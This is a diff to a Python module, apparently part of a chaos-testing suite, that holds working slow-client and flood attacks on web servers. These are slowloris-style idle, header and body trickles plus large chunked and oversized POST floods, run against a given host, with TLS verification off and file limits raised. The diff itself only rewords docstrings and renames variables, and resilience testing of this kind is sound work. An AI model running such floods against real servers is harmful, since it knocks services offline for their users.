@@ -1,7 +1,6 @@
-"""Clients that keep a web server waiting, in a process of their own: `python -m chaos.http_attacks KIND HOST PORT`.
+"""Slow clients of a web server, as a program: `python -m chaos.http_attacks KIND HOST PORT`.
 
-Each opens its connections, opens again what is closed, and goes on until it is killed. A line on standard output says
-that the first one is open.
+It opens connections, reopens closed ones, and runs until it is killed. It prints a line when the first one is open.
 """
 
 from __future__ import annotations
@@ -16,15 +15,15 @@ from typing import Any
 
 FORM = b"POST /admin/login HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\n"
 BATCH = b"POST /admin/jobs/queues/token-refresh/batch HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
-#: One-byte chunks of 0.6 MB.
+#: 0.6 MB in one-byte chunks.
 CHUNKS = b"1\r\nx\r\n" * 600_000
-#: What a trickling client sends first, and how many there are.
+#: First bytes of slow clients, and the number of clients.
 TRICKLES = {
     "idle": (b"", 2_000),
     "heads": (b"GET /admin/login HTTP/1.1\r\nHost: localhost\r\nX-Slow: ", 600),
     "bodies": (FORM + b"Content-Length: 5000\r\n\r\n", 600),
 }
-#: What is sent as fast as it is taken, and by how many.
+#: What fast clients send, and the number of clients.
 FLOODS = {
     "chunks": (FORM + b"Transfer-Encoding: chunked\r\n\r\n" + CHUNKS, 8),
     "large": (BATCH + b"Content-Length: 8000000\r\n\r\n" + b" " * 7_900_000, 150),
@@ -33,33 +32,33 @@ KINDS = (*TRICKLES, *FLOODS)
 
 
 class Attack:
-    """One kind of clients against one address."""
+    """One kind of client against one address."""
 
     def __init__(self, kind: str, host: str, port: int, *, tls: bool) -> None:
         self.kind = kind
         self.address = host, port
         self.tls = ssl._create_unverified_context() if tls else None
-        self._has_begun = False
+        self._has_started = False
 
     async def run(self, share: float) -> None:
-        """Go on for ever with this share of the clients."""
+        """Run this share of the clients forever."""
         first, count = (TRICKLES | FLOODS)[self.kind]
-        act = self._trickle if self.kind in TRICKLES else self._flood
-        await asyncio.gather(*(self._again(act, first) for _ in range(max(2, int(count * share)))))
+        run_client = self._trickle if self.kind in TRICKLES else self._flood
+        await asyncio.gather(*(self._repeat(run_client, first) for _ in range(max(2, int(count * share)))))
 
-    async def _again(self, act: Any, first: bytes) -> None:
+    async def _repeat(self, run_client: Any, first: bytes) -> None:
         while True:
             with contextlib.suppress(OSError, asyncio.IncompleteReadError):
-                await self._once(act, first)
+                await self._once(run_client, first)
             await asyncio.sleep(0.1)
 
-    async def _once(self, act: Any, first: bytes) -> None:
+    async def _once(self, run_client: Any, first: bytes) -> None:
         reader, writer = await asyncio.open_connection(*self.address, ssl=self.tls)
-        if not self._has_begun:
-            self._has_begun = True
-            print("begun", flush=True)
+        if not self._has_started:
+            self._has_started = True
+            print("started", flush=True)
         try:
-            await act(reader, writer, first)
+            await run_client(reader, writer, first)
         finally:
             writer.close()
 
@@ -83,7 +82,7 @@ class Attack:
 
 
 def main() -> Coroutine[Any, Any, None]:
-    """Return the attack that the command line names."""
+    """Return the attack from the command line."""
     kind, host, port, tls, share = sys.argv[1:]
     _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
